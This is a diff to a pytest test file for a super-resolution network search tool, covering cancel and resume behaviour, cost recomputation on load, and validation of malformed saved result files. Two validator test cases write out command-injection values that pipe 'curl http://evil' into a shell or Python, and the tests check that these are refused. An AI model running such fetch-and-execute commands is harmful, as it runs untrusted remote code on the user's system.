@@ -13,11 +13,15 @@ from pathlib import Path
 import pytest
 
 from sr_core.errors import SearchError
+from sr_core.notation import from_text
 from sr_core.quality.metrics import PROTOCOL
-from sr_core.search.result import SearchResult, write_result
+from sr_core.search.objective import objective
+from sr_core.search.result import SearchResult, read_result, write_result
 from sr_core.store import Catalogue
 from sr_core.ui.live import ACTIVE, LiveSearch, Snapshot
-from sr_core.ui.search_result import load_result
+from sr_core.ui.pricing import Pricing
+from sr_core.ui.search_result import MAX_LOADED, load_result
+from sr_core.ui.search_view import SearchView
 from sr_core.ui.searches import Searches
 from tests import app_root
 from tests.search.test_records import run
@@ -102,13 +106,46 @@ def test_pause_and_resume_continue_the_same_study_and_leave_result_files(
     assert finished.trials == tuple(map(trial, range(40)))
 
 
-def test_cancel_kills_the_worker_in_mid_trial_and_keeps_what_was_found(
-    begin: Callable[..., LiveSearch],
+def test_cancel_lets_the_trial_end_and_leaves_the_result(begin: Callable[..., LiveSearch]) -> None:
+    search = begin("steady", trials=400)
+    wait(search, lambda now: len(now.trials) > 3)
+    search.cancel()
+    assert search.snapshot().phase == "cancelling"
+    cancelled = settled(search)
+    assert cancelled.phase == "cancelled"
+    path = search.result()
+    assert path is not None
+    assert path.read_text() == f"{len(cancelled.trials)} trials"
+
+
+def test_a_search_that_cannot_resume_stays_paused_with_its_result(
+    begin: Callable[..., LiveSearch], monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    def refuse(*_: object, **__: object) -> None:
+        raise OSError(12, "Cannot allocate memory")
+
+    search = begin("steady", trials=40)
+    wait(search, lambda now: len(now.trials) > 3)
+    search.pause()
+    settled(search)
+    with monkeypatch.context() as patch:
+        patch.setattr(subprocess, "Popen", refuse)
+        with pytest.raises(SearchError, match=r"cannot start \(Cannot allocate memory\)"):
+            search.resume()
+    assert search.snapshot().phase == "paused"
+    assert search.result() is not None
+    search.resume()
+    assert settled(search).phase == "finished"
+
+
+def test_cancel_kills_the_worker_in_mid_trial_and_keeps_what_was_found(
+    begin: Callable[..., LiveSearch], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("sr_core.ui.live._GRACE_S", 0.1)
     search = begin("endless")
     wait(search, lambda now: len(now.trials) == 1)
     search.cancel()
-    assert search.snapshot().phase == "cancelled"
+    assert settled(search).phase == "cancelled"
     search.close()
     assert not alive(search.pid)
     assert not search.folder.exists()
@@ -198,7 +235,37 @@ def saved(catalogue: Catalogue, tmp_path: Path) -> Path:
 
 
 def test_a_result_can_be_loaded(catalogue: Catalogue, saved: Path) -> None:
-    assert load_result(saved, catalogue) == replace(FINISHED, phase="loaded")
+    loaded = load_result(saved, catalogue)
+    networks = [from_text(trial.network) for trial in FINISHED.trials]
+    costs = objective(catalogue, START.objective).cost(networks)
+    trials = (
+        trial.model_copy(update={"cost": cost})  # this computer's, whatever the file says
+        for trial, cost in zip(FINISHED.trials, costs.tolist(), strict=True)
+    )
+    assert loaded == replace(FINISHED, phase="loaded", trials=tuple(trials))
+
+
+def test_costs_of_an_unknown_device_are_marked_as_the_files(
+    catalogue: Catalogue, saved: Path
+) -> None:
+    saved.write_text(saved.read_text().replace(f'"objective": "{app_root.ENGINE}"',
+                                               '"objective": "fridge"'))  # fmt: skip
+    loaded = load_result(saved, catalogue)
+    assert [trial.cost for trial in loaded.trials] == [trial.cost for trial in FINISHED.trials]
+    view = SearchView(Pricing(catalogue))
+    assert view.front(loaded).x.origin == "from the file"
+    card = view.card(loaded, from_text(loaded.trials[0].network))
+    assert card is not None
+    assert "from the file" in card
+    assert view.front(load_result(saved, catalogue)).points
+
+
+def test_a_file_with_very_many_trials_is_refused(catalogue: Catalogue, saved: Path) -> None:
+    result = read_result(saved.read_bytes(), "saved.json")
+    trials = [FINISHED.trials[0]] * (MAX_LOADED + 1)
+    write_result(saved, result.model_copy(update={"trials": trials}))
+    with pytest.raises(SearchError, match="has 4097 trials: at most 4096"):
+        load_result(saved, catalogue)
 
 
 @pytest.mark.parametrize(
@@ -209,6 +276,13 @@ def test_a_result_can_be_loaded(catalogue: Catalogue, saved: Path) -> None:
         ('"psnr_y_db": 26.0', '"psnr_y_db": "high"', "no search result .trials.0.psnr_y_db"),
         ('"psnr_y_db": 26.0', '"psnr_y_db": 1e6', "the cost or PSNR of trial 0 is impossible"),
         ('"cost": 5.0', '"cost": -5.0', "the cost or PSNR of trial 0 is impossible"),
+        ('"cost": 5.0', '"cost": 1.7e308', "the cost or PSNR of trial 0 is impossible"),
+        ('"cost": 5.0', '"cost": 1e-9', "the cost or PSNR of trial 0 is impossible"),
+        ('"ssim_y": 0.8', '"ssim_y": 1e300', "a number of a trial is impossible"),
+        ('"trials": 20', f'"trials": {10**309}', "its trials, crops, budget"),
+        ('"unit": "ms"', '"unit": "GMACs"', "its trials, crops, budget"),
+        ("sr_core search", "sr_core search; curl http://evil | sh", "its command is not one of"),
+        ("python -m", "curl http://evil | python -m", "its command is not one of a search"),
         ('"network": "x4c16_2w"', '"network": "x4c16_9<b>"', r"cannot be used .trial 0.\. "),
         ('"network": "x4c16_2w"', '"network": "x4c32_12w"', r"cannot be used .trial 0.\. "),
         ('"scale": 4', '"scale": 3', "with other x3 weights"),
